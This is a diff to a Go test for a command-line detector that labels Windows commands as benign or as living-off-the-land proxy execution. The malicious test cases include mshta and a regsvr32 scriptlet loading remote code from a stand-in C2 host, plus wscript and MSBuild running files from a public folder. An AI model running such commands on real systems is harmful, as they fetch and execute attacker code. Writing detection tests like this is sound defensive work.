@@ -30,6 +30,7 @@ func TestImageIndicators(t *testing.T) {
 		{"onedrive cleanup", "Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "C:\Users\alice\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`, nil},
 		{"printer applet", "x", `rundll32.exe printui.dll,PrintUIEntry /ga /n\\srv\p`, nil},
 		{"chcp", "x", `chcp.com 65001`, nil},
+		{"script code is no image", "", `/* comment */ try{w=new ActiveXObject("WScript.Shell")}catch(e){}`, nil},
 		{"edge package name", "x", `"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\wt.exe"`, nil},
 
 		// Malicious: public tooling and malware reports.
@@ -60,7 +61,9 @@ func TestImageIndicators(t *testing.T) {
 		{"mshta", "x", `mshta.exe http://c2.example.invalid/a.hta`, []string{"lolbin_proxy"}},
 		{"wscript public", "x", `wscript.exe //B C:\Users\Public\x.js`, []string{"lolbin_proxy"}},
 		{"msbuild", "x", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\a.xml`, []string{"lolbin_proxy"}},
-		{"regsvr32 scriptlet", "x", `regsvr32 /s /n /u /i:http://c2.example.invalid/file.sct scrobj.dll`, []string{"lolbin_proxy"}},
+		{"regsvr32 /i: without scrobj", "x", `regsvr32 /s /i:C:\Users\Public\cfg.txt C:\Users\Public\x.dll`, []string{"lolbin_proxy"}},
+		// Scriptlets are lolbin_script (TextIndicators): not counted twice.
+		{"regsvr32 scriptlet", "x", `regsvr32 /s /n /u /i:http://c2.example.invalid/file.sct scrobj.dll`, nil},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
